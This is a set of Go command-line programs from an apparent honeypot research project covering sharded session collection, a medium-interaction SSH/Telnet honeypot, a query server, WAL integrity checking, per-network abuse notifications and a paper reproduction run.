	jsonOut := fs.Bool("json", false, "emit the machine-readable report (schema "+lint.ReportSchema+")")
	rules := fs.String("rules", "", "comma-separated rule subset (default: all rules)")
	ruleAlias := fs.String("rule", "", "alias for -rules")
	baselinePath := fs.String("baseline", "", "baseline file (default <module>/lint.baseline.json if present; \"off\" disables)")
	cacheDir := fs.String("cache-dir", "", "result cache directory (default <module>/.lintcache)")
	noCache := fs.Bool("no-cache", false, "disable the result cache")
	list := fs.Bool("list", false, "list available rules and exit")
	if err := fs.Parse(args); err != nil {
		return 2
	}

	if *list {
		for _, a := range lint.All() {
			fmt.Fprintf(stdout, "%-22s %s\n", a.Name, a.Doc)
		}
		return 0
	}

	ruleList := *rules
	if ruleList == "" {
		ruleList = *ruleAlias
	}
	analyzers, err := lint.ByName(ruleList)
	if err != nil {
		fmt.Fprintln(stderr, err)
		return 2
	}

	root, err := lint.FindModuleRoot(dir)
	if err != nil {
		fmt.Fprintln(stderr, err)
		return 2
	}

	cache := *cacheDir
	if cache == "" {
		cache = filepath.Join(root, ".lintcache")
	}
	if *noCache {
		cache = ""
	}

	res, err := lint.NewLoader(root).Check(lint.CheckOptions{
		Patterns:  fs.Args(),
		Analyzers: analyzers,
		CacheDir:  cache,
	})
	if err != nil {
		fmt.Fprintln(stderr, err)
		return 2
	}
	if cache != "" {
		fmt.Fprintf(stderr, "lint: cache: %d hit(s), %d miss(es) across %d package(s)\n",
			res.CacheHits, res.CacheMisses, res.Packages)
	}

	findings := res.Findings
	baselined := 0
	var stale []lint.BaselineEntry
	if *baselinePath != "off" {
		path := *baselinePath
		optional := path == ""
		if optional {
			path = filepath.Join(root, "lint.baseline.json")
		}
		entries, err := lint.LoadBaseline(path)
		switch {
		case err == nil:
			findings, baselined, stale = lint.ApplyBaseline(findings, entries, root)
		case optional && os.IsNotExist(err):
			// No default baseline: every finding stands on its own.
		default:
			fmt.Fprintln(stderr, err)
			return 2
		}
	}

	if *jsonOut {
		if err := lint.NewReport(findings, root, res.Packages, baselined).Write(stdout); err != nil {
			fmt.Fprintln(stderr, err)
			return 2
		}
	} else {
		for _, f := range findings {
			fmt.Fprintln(stdout, f)
		}
	}
	for _, e := range stale {
		fmt.Fprintf(stderr, "lint: stale baseline entry (%d unmatched): [%s] %s: %s\n", e.Count, e.Rule, e.File, e.Message)
	}
	if len(findings) > 0 || len(stale) > 0 {
		if !*jsonOut {
			fmt.Fprintf(stderr, "lint: %d finding(s) across %d package(s)\n", len(findings), res.Packages)
		}
		return 1
	}
	return 0
}
