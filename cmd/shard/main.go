// Command shard runs one collector shard of a multi-node honeyfarm: it
// owns the partition of pots with HoneypotID % shards == index,
// persists that partition's session records through its own write-ahead
// log, folds them into the incremental aggregation engine, and serves
// both the regular query API and the coordinator-facing pull API
// (/shard/v1/partials) on one listener.
//
// Restart is resumption: the WAL is recovered on startup, recovered
// batches replay into the engine, and feeding continues from the first
// unpersisted record — so a SIGKILLed shard comes back at a lower (then
// catching-up) sequence and the merge coordinator's monotonic install
// rule rides it out.
//
// Usage:
//
//	shard -wal-dir s0/ -shards 3 -index 0 -addr 127.0.0.1:0
//
// SIGINT/SIGTERM drains in-flight requests (bounded by -drain), stops
// the feeder, closes the WAL, and verifies nothing leaked before
// exiting 0.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"os/signal"
	"runtime"
	"syscall"
	"time"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/query"
	"honeyfarm/internal/shard"
	"honeyfarm/internal/wal"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:0", "listen address")
	addrFile := flag.String("addr-file", "", "write the bound address to this file once listening (for scripts)")
	walDir := flag.String("wal-dir", "", "this shard's WAL directory (required)")
	shards := flag.Int("shards", 1, "fleet size: number of collector shards")
	index := flag.Int("index", 0, "this shard's id in [0, shards)")
	sessions := flag.Int("sessions", 50_000, "total sessions in the fleet-wide dataset")
	seed := flag.Int64("seed", 1, "generation seed; must match across the fleet")
	pots := flag.Int("pots", 221, "fleet-wide farm size (every shard sizes its tables for the full farm)")
	workers := flag.Int("workers", 0, "generation workers (0 = GOMAXPROCS); dataset is identical for any value")
	batch := flag.Int("batch", 500, "records per feed batch (appended durably, then ingested)")
	pace := flag.Duration("pace", 20*time.Millisecond, "delay between feed batches (simulated collection rate)")
	snapshotEvery := flag.Int("snapshot-every", 2000, "auto-seal a snapshot every N ingested records")
	drain := flag.Duration("drain", 10*time.Second, "graceful-shutdown deadline for in-flight requests")
	wire := flag.Bool("wire", false, "serve real SSH/Telnet listeners for the owned pots instead of feeding the synthetic dataset")
	wireAddrFile := flag.String("wire-addr-file", "", "with -wire: write the pot address table here (lines: <pot> <ssh-addr> <telnet-addr>)")
	flag.Parse()

	if *walDir == "" || *shards < 1 || *index < 0 || *index >= *shards {
		fmt.Fprintln(os.Stderr, "usage: shard -wal-dir <dir> -shards N -index i [-addr host:port]")
		os.Exit(2)
	}

	// Register the signal handler before taking the goroutine baseline:
	// os/signal starts a permanent runtime goroutine on first Notify,
	// which would otherwise read as a leak.
	sigc := make(chan os.Signal, 1)
	signal.Notify(sigc, os.Interrupt, syscall.SIGTERM)
	baseline := runtime.NumGoroutine()

	// The whole fleet generates the same dataset from the same seed;
	// each shard keeps only its partition, so the union over the fleet
	// is exactly the single-node record set. A -wire shard skips the
	// synthetic dataset entirely: its records arrive over real sockets.
	var part []*honeypot.SessionRecord
	registry := honeyfarm.NewRegistry(*seed)
	if !*wire {
		d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
			Seed: *seed, TotalSessions: *sessions, NumPots: *pots, Workers: *workers,
		})
		if err != nil {
			log.Fatalf("shard: simulate: %v", err)
		}
		registry = d.Registry
		for _, r := range d.Store.Records() {
			if r.HoneypotID%*shards == *index {
				part = append(part, r)
			}
		}
	}

	wlog, recovery, err := wal.Open(*walDir, wal.Options{Epoch: honeyfarm.DefaultEpoch})
	if err != nil {
		log.Fatalf("shard: wal: %v", err)
	}
	engine := query.New(query.Config{
		Epoch:         honeyfarm.DefaultEpoch,
		NumPots:       *pots,
		Registry:      registry,
		Tagger:        analysis.Tagger(malware.NewTagger(nil)),
		SnapshotEvery: *snapshotEvery,
	})
	for _, b := range recovery.Batches {
		engine.Ingest(b.Records)
	}
	recovered := recovery.Records()
	if !*wire && recovered > len(part) {
		log.Fatalf("shard: WAL holds %d records but partition has %d; -shards/-index/-seed mismatch", recovered, len(part))
	}
	engine.Seal()
	log.Printf("shard %d/%d: partition %d records, recovered %d, feeding %d",
		*index, *shards, len(part), recovered, len(part)-recovered)

	var front *shard.WireFront
	if *wire {
		front, err = shard.NewWireFront(shard.WireConfig{
			Shards: *shards, Index: *index, NumPots: *pots,
			Engine: engine, WAL: wlog,
		})
		if err != nil {
			log.Fatalf("shard: wire front: %v", err)
		}
		if *wireAddrFile != "" {
			if err := front.WriteAddrFile(*wireAddrFile); err != nil {
				log.Fatalf("shard: writing -wire-addr-file: %v", err)
			}
		}
		log.Printf("shard %d: wire front up for %d pots", *index, len(front.Pots()))
	}

	api := query.NewServer(query.ServerConfig{Source: engine, WALHealth: wlog.Health})
	mux := http.NewServeMux()
	mux.Handle("/shard/", shard.NewHandler(engine))
	mux.Handle("/metrics", shard.BuildCollectorRegistry(engine, wlog.Health, front, api, *pots).Handler())
	mux.Handle("/", api.Handler())

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		log.Fatalf("shard: listen: %v", err)
	}
	if *addrFile != "" {
		// Written atomically: the merge smoke test polls this file and
		// must never read a half-written address.
		if err := atomicio.WriteFileBytes(*addrFile, []byte(ln.Addr().String()+"\n")); err != nil {
			log.Fatalf("shard: writing -addr-file: %v", err)
		}
	}
	log.Printf("shard %d: listening on %s, wal %s", *index, ln.Addr(), *walDir)

	srv := &http.Server{Handler: mux}
	errc := make(chan error, 1)
	go func() { errc <- srv.Serve(ln) }()

	// The feeder: append each batch durably, then fold it into the
	// engine — so the engine's sequence never runs ahead of what a
	// restart can recover. A degraded WAL (disk full) retries the same
	// batch until the writer heals rather than ingesting records a
	// crash would lose. A -wire shard has no feeder: its wire front
	// performs the same append-then-ingest per accepted session.
	stopFeed := make(chan struct{})
	feedDone := make(chan struct{})
	if *wire {
		close(feedDone)
	} else {
		go func() {
			defer close(feedDone)
			for off := recovered; off < len(part); {
				select {
				case <-stopFeed:
					return
				case <-time.After(*pace):
				}
				end := off + *batch
				if end > len(part) {
					end = len(part)
				}
				if err := wlog.Append(part[off:end]); err != nil {
					log.Printf("shard %d: wal append: %v (retrying)", *index, err)
					continue
				}
				engine.Ingest(part[off:end])
				off = end
			}
			engine.Seal()
			log.Printf("shard %d: feed complete at seq %d", *index, engine.Seq())
		}()
	}

	select {
	case err := <-errc:
		log.Fatalf("shard: %v", err)
	case sig := <-sigc:
		log.Printf("shard %d: %v: draining...", *index, sig)
	}

	close(stopFeed)
	<-feedDone
	if front != nil {
		// Stop accepting wire sessions (force-draining stragglers), then
		// seal so the final snapshot covers everything accepted.
		if err := front.Close(); err != nil {
			log.Printf("shard %d: wire front close: %v", *index, err)
		}
		engine.Seal()
	}
	ctx, cancel := context.WithTimeout(context.Background(), *drain)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		log.Fatalf("shard: drain: %v", err)
	}
	if err := <-errc; err != nil && !errors.Is(err, http.ErrServerClosed) {
		log.Fatalf("shard: %v", err)
	}
	if err := wlog.Close(); err != nil {
		log.Fatalf("shard: wal close: %v", err)
	}

	// Leak check: every goroutine we started must be gone before exit.
	leaked := 0
	for i := 0; i < 200; i++ {
		leaked = runtime.NumGoroutine() - baseline
		if leaked <= 0 {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if leaked > 0 {
		log.Fatalf("shard: %d goroutines leaked after drain", leaked)
	}
	log.Printf("shard %d: drained cleanly at seq %d", *index, engine.Seq())
}
