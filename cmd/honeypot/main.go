// Command honeypot runs a single medium-interaction SSH/Telnet honeypot
// on real TCP ports — the same honeypot code the simulated farm runs
// in-process — and streams Cowrie-style JSONL session records to a log.
//
// Usage:
//
//	honeypot [-ssh :2222] [-telnet :2323] [-log sessions.jsonl] [-fetch]
//
// Connect with any SSH client (user root, any password except "root"):
//
//	ssh -p 2222 root@localhost
package main

import (
	"crypto/rand"
	"crypto/rsa"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"net"
	"os"
	"sync"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/malware"
)

func main() {
	sshAddr := flag.String("ssh", ":2222", "SSH listen address")
	telnetAddr := flag.String("telnet", ":2323", "Telnet listen address")
	logPath := flag.String("log", "", "JSONL session log (default stdout)")
	fetch := flag.Bool("fetch", false, "simulate successful downloads for wget/curl/tftp (default: egress blocked)")
	transcript := flag.Bool("transcript", false, "record shell output transcripts into the session log")
	flag.Parse()

	out := os.Stdout
	if *logPath != "" {
		f, err := os.OpenFile(*logPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
		if err != nil {
			log.Fatalf("opening log: %v", err)
		}
		defer func() {
			if err := f.Close(); err != nil {
				log.Printf("closing log: %v", err)
			}
		}()
		out = f
	}
	var mu sync.Mutex
	enc := json.NewEncoder(out)

	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		log.Fatalf("generating rsa host key: %v", err)
	}
	cfg := honeypot.Config{
		RSAHostKey:       rsaKey,
		RecordTranscript: *transcript,
		Sink: func(r *honeypot.SessionRecord) {
			mu.Lock()
			defer mu.Unlock()
			if err := enc.Encode(r); err != nil {
				log.Printf("encoding record: %v", err)
			}
		},
	}
	if *fetch {
		cfg.Fetch = func(uri string) ([]byte, error) {
			return malware.PayloadFor(uri), nil
		}
	}
	pot, err := honeypot.New(cfg)
	if err != nil {
		log.Fatalf("creating honeypot: %v", err)
	}
	_ = pot.HostKey() // host key is generated eagerly above

	var wg, conns sync.WaitGroup
	serve := func(addr, proto string, handle func(net.Conn)) {
		l, err := net.Listen("tcp", addr)
		if err != nil {
			log.Fatalf("listening on %s: %v", addr, err)
		}
		fmt.Fprintf(os.Stderr, "honeypot: %s on %s\n", proto, l.Addr())
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				conns.Add(1)
				go func() {
					defer conns.Done()
					handle(c)
				}()
			}
		}()
	}
	serve(*sshAddr, "ssh", pot.ServeSSH)
	serve(*telnetAddr, "telnet", pot.ServeTelnet)
	wg.Wait()
	conns.Wait()
}
