// Command serve runs the live query API over a honeyfarm WAL: it tails
// the write-ahead log a collector (or a checkpointed reproduce run) is
// writing, folds every durable batch into the incremental aggregation
// engine, and serves epoch-sealed snapshots as JSON over HTTP.
//
// Endpoints: /v1/summary, /v1/pots, /v1/clients, /v1/countries,
// /v1/availability, /v1/healthz. Data responses carry an ETag keyed on
// the snapshot sequence; If-None-Match revalidation returns 304.
//
// Usage:
//
//	reproduce -wal-dir ckpt/ &        # something writing a WAL
//	serve -wal-dir ckpt/ -addr 127.0.0.1:8080
//
// SIGINT/SIGTERM drains in-flight requests (bounded by -drain), stops
// the tailer, and verifies nothing leaked before exiting 0.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	_ "net/http/pprof" // registers /debug/pprof/ on DefaultServeMux; exposed only behind -pprof
	"os"
	"os/signal"
	"runtime"
	"syscall"
	"time"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/query"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8080", "listen address (use :0 for an ephemeral port)")
	addrFile := flag.String("addr-file", "", "write the bound address to this file once listening (for scripts)")
	walDir := flag.String("wal-dir", "", "WAL directory to tail (required)")
	epochArg := flag.String("epoch", "", "store epoch as YYYY-MM-DD (default: the paper's 2021-12-01); must match the WAL's")
	pots := flag.Int("pots", 221, "farm size: rows in the per-pot and availability tables")
	seed := flag.Int64("seed", 1, "registry seed for country resolution; must match the generation seed")
	snapshotEvery := flag.Int("snapshot-every", 5000, "auto-seal a snapshot every N ingested records (0: seal only per drain cycle)")
	poll := flag.Duration("poll", 200*time.Millisecond, "tail poll interval once caught up")
	maxInflight := flag.Int("max-inflight", 64, "bound on concurrently rendered responses")
	clientRows := flag.Int("client-rows", 100, "maximum rows served by /v1/clients")
	drain := flag.Duration("drain", 10*time.Second, "graceful-shutdown deadline for in-flight requests")
	pprofFlag := flag.Bool("pprof", false, "expose net/http/pprof under /debug/pprof/ on the same listener")
	flag.Parse()

	if *walDir == "" {
		fmt.Fprintln(os.Stderr, "usage: serve -wal-dir <dir> [-addr host:port]")
		os.Exit(2)
	}
	epoch := honeyfarm.DefaultEpoch
	if *epochArg != "" {
		t, err := time.Parse("2006-01-02", *epochArg)
		if err != nil {
			log.Fatalf("serve: parsing -epoch: %v", err)
		}
		epoch = t
	}

	// Register the signal handler before taking the goroutine baseline:
	// os/signal starts a permanent runtime goroutine on first Notify,
	// which would otherwise read as a leak.
	sigc := make(chan os.Signal, 1)
	signal.Notify(sigc, os.Interrupt, syscall.SIGTERM)
	baseline := runtime.NumGoroutine()

	engine := query.New(query.Config{
		Epoch:         epoch,
		NumPots:       *pots,
		Registry:      honeyfarm.NewRegistry(*seed),
		Tagger:        analysis.Tagger(malware.NewTagger(nil)),
		SnapshotEvery: *snapshotEvery,
	})
	follower, err := query.NewFollower(engine, *walDir, *poll)
	if err != nil {
		log.Fatalf("serve: %v", err)
	}
	follower.Start()

	api := query.NewServer(query.ServerConfig{
		Source:      engine,
		Follower:    follower,
		MaxInflight: *maxInflight,
		ClientRows:  *clientRows,
	})
	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		log.Fatalf("serve: listen: %v", err)
	}
	if *addrFile != "" {
		// Written atomically: the check.sh smoke test (and any supervisor)
		// polls this file and must never read a half-written address.
		if err := atomicio.WriteFileBytes(*addrFile, []byte(ln.Addr().String()+"\n")); err != nil {
			log.Fatalf("serve: writing -addr-file: %v", err)
		}
	}
	log.Printf("serve: listening on %s, tailing %s", ln.Addr(), *walDir)

	reg := query.BuildServeRegistry(engine, follower, api, *pots)
	outer := http.NewServeMux()
	outer.Handle("/metrics", reg.Handler())
	outer.Handle("/", api.Handler())
	if *pprofFlag {
		// The pprof mux registers itself on http.DefaultServeMux at
		// import time; mount it beside the API so a live process can be
		// profiled without a second listener. Off by default: the API is
		// cacheable public data, a heap profile is not.
		outer.Handle("/debug/pprof/", http.DefaultServeMux)
	}
	handler := http.Handler(outer)
	srv := &http.Server{Handler: handler}
	errc := make(chan error, 1)
	go func() { errc <- srv.Serve(ln) }()

	select {
	case err := <-errc:
		log.Fatalf("serve: %v", err)
	case sig := <-sigc:
		log.Printf("serve: %v: draining...", sig)
	}

	ctx, cancel := context.WithTimeout(context.Background(), *drain)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		log.Fatalf("serve: drain: %v", err)
	}
	if err := <-errc; err != nil && !errors.Is(err, http.ErrServerClosed) {
		log.Fatalf("serve: %v", err)
	}
	if err := follower.Stop(); err != nil {
		log.Fatalf("serve: follower: %v", err)
	}

	// Leak check: every goroutine we started must be gone before exit.
	// (net/http worker goroutines unwind asynchronously after Shutdown
	// returns, hence the bounded settle loop.)
	leaked := 0
	for i := 0; i < 200; i++ {
		leaked = runtime.NumGoroutine() - baseline
		if leaked <= 0 {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if leaked > 0 {
		log.Fatalf("serve: %d goroutines leaked after drain", leaked)
	}
	seq, off := follower.Position()
	log.Printf("serve: drained cleanly at snapshot seq %d (wal %d+%d)", engine.Snapshot().Seq, seq, off)
}
