// Command notify renders per-AS abuse notifications from a dataset —
// the coordination step the paper's conclusion announces ("jointly
// notify networks participating in connections to the honeyfarm"). For
// each network above the activity threshold it prints the counts a
// responsible operator would need to act: client IPs, session volume,
// intrusion share, distinct malware hashes, and example addresses.
//
// Usage:
//
//	notify [-in dataset.jsonl] [-seed 1] [-min 100] [-top 20]
package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	"honeyfarm"
)

func main() {
	in := flag.String("in", "dataset.jsonl", "input JSONL dataset")
	seed := flag.Int64("seed", 1, "registry seed used at generation time")
	minSessions := flag.Int("min", 100, "minimum sessions for an AS to be notified")
	top := flag.Int("top", 20, "number of reports to print")
	flag.Parse()

	reg := honeyfarm.NewRegistry(*seed)
	d, err := honeyfarm.LoadDatasetFile(*in, reg, 0, *seed)
	if err != nil {
		log.Fatalf("loading dataset: %v", err)
	}
	reports := d.AbuseReports(*minSessions)
	fmt.Fprintf(os.Stderr, "%d networks above the %d-session threshold\n", len(reports), *minSessions)
	for i, r := range reports {
		if i >= *top {
			break
		}
		fmt.Printf("--- notification %d ---\n", i+1)
		fmt.Printf("To:       abuse contact of AS%d (%s, %s network)\n", r.ASN, r.Country, r.Type)
		fmt.Printf("Subject:  hostile SSH/Telnet activity from your network\n")
		fmt.Printf("Observed: %d client IPs, %d sessions (%d intrusions), %d distinct malware hashes\n",
			r.ClientIPs, r.Sessions, r.IntrusionSessions, r.Hashes)
		fmt.Printf("Examples: %v\n\n", r.ExampleIPs)
	}
}
