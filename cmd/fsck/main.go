// Command fsck verifies — and optionally repairs — the crash-safety
// artifacts a honeyfarm run leaves behind:
//
//   - a directory argument is checked as a write-ahead log (see
//     internal/wal): every segment is scanned frame by frame, CRCs are
//     validated, and per-segment frame/record/byte statistics are
//     printed. A torn tail (a partially written final frame) is
//     reported; -repair truncates it away, after which the log opens
//     cleanly again.
//   - a file argument is checked as a JSONL dataset: records are parsed
//     strictly, and a torn trailing line (SIGKILL mid-save without
//     atomic write) is reported. -repair rewrites the recovered prefix.
//
// With more than one path — the normal shape for a sharded farm, one
// WAL directory per collector — a per-path summary table follows the
// detailed reports, so an operator fsck-ing a whole fleet reads the
// verdict in one screen.
//
// Exit status is 0 when everything is healthy (or was repaired), 1 when
// damage remains, 2 on usage errors.
//
// Usage:
//
//	fsck [-repair] path...
//	fsck s0/wal s1/wal s2/wal
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/iofault"
	"honeyfarm/internal/store"
	"honeyfarm/internal/wal"
)

func main() {
	repair := flag.Bool("repair", false, "truncate torn WAL segments / rewrite recoverable JSONL prefixes")
	flag.Parse()
	if flag.NArg() == 0 {
		fmt.Fprintln(os.Stderr, "usage: fsck [-repair] path...")
		os.Exit(2)
	}
	exit := 0
	results := make([]result, 0, flag.NArg())
	for _, path := range flag.Args() {
		info, err := os.Stat(path)
		if err != nil {
			fmt.Fprintf(os.Stderr, "fsck: %v\n", err)
			results = append(results, result{path: path, kind: "?", status: "unreadable"})
			exit = 2
			continue
		}
		var res result
		if info.IsDir() {
			res = checkWAL(path, *repair)
		} else {
			res = checkJSONL(path, *repair)
		}
		results = append(results, res)
		if !res.healthy && exit == 0 {
			exit = 1
		}
	}
	if len(results) > 1 {
		printSummary(results)
	}
	os.Exit(exit)
}

// result is one path's verdict, rendered into the fleet summary table.
type result struct {
	path    string
	kind    string // "wal" or "jsonl"
	records int
	healthy bool
	status  string // "ok", "repaired", "TORN", "unreadable", ...
}

// printSummary renders the per-path verdict table for multi-path runs
// (one WAL directory per shard is the expected fleet layout).
func printSummary(results []result) {
	fmt.Printf("\nsummary: %d path(s)\n", len(results))
	fmt.Printf("  %-32s %-6s %-9s %s\n", "path", "kind", "records", "status")
	unhealthy := 0
	for _, r := range results {
		fmt.Printf("  %-32s %-6s %-9d %s\n", r.path, r.kind, r.records, r.status)
		if !r.healthy {
			unhealthy++
		}
	}
	if unhealthy > 0 {
		fmt.Printf("  %d of %d unhealthy\n", unhealthy, len(results))
	}
}

// checkWAL scans one WAL directory and reports per-segment statistics.
// The result is healthy when the log is intact (possibly after repair).
func checkWAL(dir string, repair bool) result {
	res := result{path: dir, kind: "wal"}
	rec, err := wal.Verify(dir, time.Time{})
	if err != nil {
		fmt.Printf("%s: unreadable WAL: %v\n", dir, err)
		res.status = "unreadable"
		return res
	}
	printWAL(dir, rec)
	res.records = rec.Records()
	if len(rec.OrphanedTmp) > 0 && repair {
		swept, err := atomicio.SweepTmp(iofault.OS, dir)
		if err != nil {
			fmt.Printf("%s: sweeping orphaned tmp files: %v\n", dir, err)
			res.status = "sweep failed"
			return res
		}
		fmt.Printf("%s: swept %d orphaned tmp file(s)\n", dir, len(swept))
	}
	if rec.Healthy() {
		res.healthy = crossCheckWAL(dir, rec.Records())
		res.status = "ok"
		if !res.healthy {
			res.status = "read-path drift"
		}
		return res
	}
	if !repair {
		fmt.Printf("%s: %d torn bytes (run with -repair to truncate)\n", dir, rec.TornBytes)
		res.status = fmt.Sprintf("TORN (%d bytes)", rec.TornBytes)
		return res
	}
	repaired, err := wal.Repair(dir, time.Time{})
	if err != nil {
		fmt.Printf("%s: repair failed: %v\n", dir, err)
		res.status = "repair failed"
		return res
	}
	fmt.Printf("%s: repaired; %d records survive\n", dir, repaired.Records())
	res.records = repaired.Records()
	res.healthy = repaired.Healthy() && crossCheckWAL(dir, repaired.Records())
	res.status = "repaired"
	if !res.healthy {
		res.status = "repair incomplete"
	}
	return res
}

// crossCheckWAL re-reads the log through wal.Iterator — the query
// tailer's read path — and confirms it yields the record count the
// recovery scan found, so the two read paths cannot drift silently.
func crossCheckWAL(dir string, want int) bool {
	it, err := wal.NewIterator(dir)
	if err != nil {
		fmt.Printf("%s: iterator: %v\n", dir, err)
		return false
	}
	defer it.Close()
	got := 0
	for ok := true; ok; {
		var b wal.Batch
		b, ok, err = it.Next()
		if err != nil {
			fmt.Printf("%s: iterator read failed: %v\n", dir, err)
			return false
		}
		got += len(b.Records)
	}
	if got != want {
		fmt.Printf("%s: iterator read %d records, recovery scan found %d\n", dir, got, want)
		return false
	}
	return true
}

// printWAL renders the per-segment frame/checksum statistics.
func printWAL(dir string, rec *wal.Recovery) {
	fmt.Printf("%s: %d segments, %d batches, %d records, epoch %s\n",
		dir, len(rec.Segments), len(rec.Batches), rec.Records(), rec.Epoch.Format("2006-01-02"))
	fmt.Printf("  %-16s %-6s %-8s %-9s %-10s %-11s %s\n",
		"segment", "format", "frames", "records", "bytes", "good_bytes", "state")
	for _, s := range rec.Segments {
		state := "ok"
		if s.Torn {
			state = fmt.Sprintf("TORN (%d bytes)", s.TornBytes)
		}
		// "v1"/"v2" from the recorded format name; "?" when the meta
		// frame itself was torn.
		format := "?"
		if i := strings.LastIndex(s.Format, "-"); i >= 0 {
			format = s.Format[i+1:]
		}
		fmt.Printf("  %-16s %-6s %-8d %-9d %-10d %-11d %s\n",
			s.Name, format, s.Frames, s.Records, s.Bytes, s.GoodBytes, state)
	}
	// Outage gaps are not damage — they are the degraded writer's own
	// count-and-drop accounting — but an operator auditing a log needs
	// to see what a disk outage cost.
	for _, g := range rec.Gaps {
		fmt.Printf("  gap: %s: %d batches, %d records dropped\n", g.Reason, g.Batches, g.Records)
	}
	// Orphaned tmp files are leftovers of a crash between an atomic
	// write's Close and Rename; Open sweeps them, -repair sweeps them
	// here, and they never count against health.
	for _, name := range rec.OrphanedTmp {
		fmt.Printf("  orphaned tmp: %s\n", name)
	}
}

// checkJSONL validates one JSONL dataset file, tolerating (and
// reporting) a torn trailing line. The result is healthy when the file
// is intact (possibly after repair).
func checkJSONL(path string, repair bool) result {
	res := result{path: path, kind: "jsonl"}
	f, err := os.Open(path)
	if err != nil {
		fmt.Printf("%s: %v\n", path, err)
		res.status = "unreadable"
		return res
	}
	st, rep, err := store.ReadJSONLWith(f, store.ReadJSONLOptions{AllowTornTail: true})
	f.Close()
	if err != nil {
		fmt.Printf("%s: unrecoverable: %v\n", path, err)
		res.status = "unrecoverable"
		return res
	}
	res.records = rep.Records
	if !rep.Truncated {
		fmt.Printf("%s: ok, %d records\n", path, rep.Records)
		res.healthy = true
		res.status = "ok"
		return res
	}
	fmt.Printf("%s: torn tail (%d trailing bytes); %d of %d records recoverable\n",
		path, rep.TornBytes, rep.Records, rep.HeaderCount)
	if !repair {
		fmt.Printf("%s: run with -repair to rewrite the recovered prefix\n", path)
		res.status = fmt.Sprintf("TORN (%d bytes)", rep.TornBytes)
		return res
	}
	if err := atomicio.WriteFile(path, st.WriteJSONL); err != nil {
		fmt.Printf("%s: repair failed: %v\n", path, err)
		res.status = "repair failed"
		return res
	}
	fmt.Printf("%s: repaired; %d records survive\n", path, st.Len())
	res.records = st.Len()
	res.healthy = true
	res.status = "repaired"
	return res
}
