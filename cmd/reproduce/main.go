// Command reproduce runs the end-to-end reproduction: it generates the
// calibrated 15-month dataset, runs every analysis, and writes the full
// table/figure report plus a paper-vs-measured comparison of the
// headline findings (the data behind EXPERIMENTS.md).
//
// Usage:
//
//	reproduce [-sessions 400000] [-seed 1] [-out report.txt] [-faults plan.json]
//	reproduce -wal-dir ckpt/ ...        # crash-safe: checkpoint to a WAL
//	reproduce -wal-dir ckpt/ -resume    # continue an interrupted run
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"strings"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/stats"
)

func main() {
	sessions := flag.Int("sessions", 400_000, "sessions to generate")
	seed := flag.Int64("seed", 1, "generation seed")
	out := flag.String("out", "", "report path (default stdout; written atomically)")
	workers := flag.Int("workers", 0, "generation workers (0 = GOMAXPROCS); output is identical for any value")
	faultsArg := flag.String("faults", "", "fault plan: path to a JSON file, or inline JSON starting with '{' (deterministic per seed)")
	walDir := flag.String("wal-dir", "", "checkpoint directory: completed generation shards are persisted to a write-ahead log there")
	resume := flag.Bool("resume", false, "continue an interrupted run from -wal-dir (byte-identical to an uninterrupted run)")
	flag.Parse()

	plan, err := loadFaultPlan(*faultsArg, *seed)
	if err != nil {
		log.Fatalf("fault plan: %v", err)
	}

	fmt.Fprintf(os.Stderr, "generating %d sessions (scale 1/%d of the paper)...\n",
		*sessions, 402_000_000/max(1, *sessions))
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: *seed, TotalSessions: *sessions, Workers: *workers, Faults: plan,
		CheckpointDir: *walDir, Resume: *resume,
	})
	if err != nil {
		log.Fatalf("simulate: %v", err)
	}

	render := func(w io.Writer) error {
		if d.Faults != nil {
			WriteAvailability(w, d)
		}
		WriteComparison(w, d)
		fmt.Fprintf(w, "\n\n======== FULL ARTIFACT REPORT ========\n")
		d.WriteReport(w, honeyfarm.ReportOptions{})
		return nil
	}
	if *out == "" {
		if err := render(os.Stdout); err != nil {
			log.Fatalf("writing report: %v", err)
		}
		return
	}
	if err := atomicio.WriteFile(*out, render); err != nil {
		log.Fatalf("writing report: %v", err)
	}
}

// loadFaultPlan parses the -faults argument: empty means no plan, a
// leading '{' means inline JSON, anything else is a file path. A plan
// with no seed of its own inherits the run seed, keeping one -seed flag
// in charge of the whole reproduction.
func loadFaultPlan(arg string, seed int64) (*honeyfarm.FaultPlan, error) {
	if arg == "" {
		return nil, nil
	}
	raw := []byte(arg)
	if !strings.HasPrefix(strings.TrimSpace(arg), "{") {
		b, err := os.ReadFile(arg)
		if err != nil {
			return nil, err
		}
		raw = b
	}
	var plan honeyfarm.FaultPlan
	if err := json.Unmarshal(raw, &plan); err != nil {
		return nil, err
	}
	if plan.Seed == 0 {
		plan.Seed = seed
	}
	if err := plan.Validate(); err != nil {
		return nil, err
	}
	return &plan, nil
}

// WriteAvailability prints the per-honeypot availability table of a
// faulted run: the pots that lost time or sessions, plus farm totals.
